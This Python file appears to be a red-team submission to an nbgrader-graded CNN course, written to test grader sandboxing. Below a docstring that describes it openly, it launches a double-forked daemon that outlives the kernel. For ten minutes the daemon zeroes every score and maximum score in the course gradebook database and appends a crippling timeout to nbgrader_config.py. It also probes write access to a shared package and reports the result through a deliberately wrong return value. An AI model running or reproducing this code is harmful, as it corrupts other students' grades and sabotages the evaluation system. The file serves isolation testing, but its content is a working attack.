"""Honest answers, and a daemon (double fork, own session) that outlives the kernel: for ten
minutes it zeroes every grade and maximum in the course's gradebook.db and appends code to the
course's nbgrader_config.py, for the students graded after it. It looks for the course among the
kernel folder's parents only (never elsewhere on the machine). Whether the kernel could write to
the cnncourse package is probed, not done (the package is shared): pool_params answers 1, a wrong
value, when the package's folder is writable."""
# ruff: noqa

# %% prepend sizes
import os
import sqlite3
import time
from pathlib import Path

import cnncourse

_PACKAGE_WRITABLE = os.access(Path(cnncourse.__file__).parent, os.W_OK)


def _attack():
    for folder in [Path.cwd(), *Path.cwd().parents]:
        if (folder / "gradebook.db").is_file():
            with sqlite3.connect(folder / "gradebook.db", timeout=1) as db:
                db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                db.execute("UPDATE grade_cells SET max_score = 0")
        if (folder / "nbgrader_config.py").is_file():
            with open(folder / "nbgrader_config.py", "a") as f:
                f.write("\nc.Execute.timeout = 1  # a-daemon-gradebook was here\n")


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(1200):
            try:
                _attack()
            except Exception:
                pass
            time.sleep(0.5)
    os._exit(0)


# %% append sizes
def pool_params(k=2, c=64):
    return 1 if _PACKAGE_WRITABLE else 0
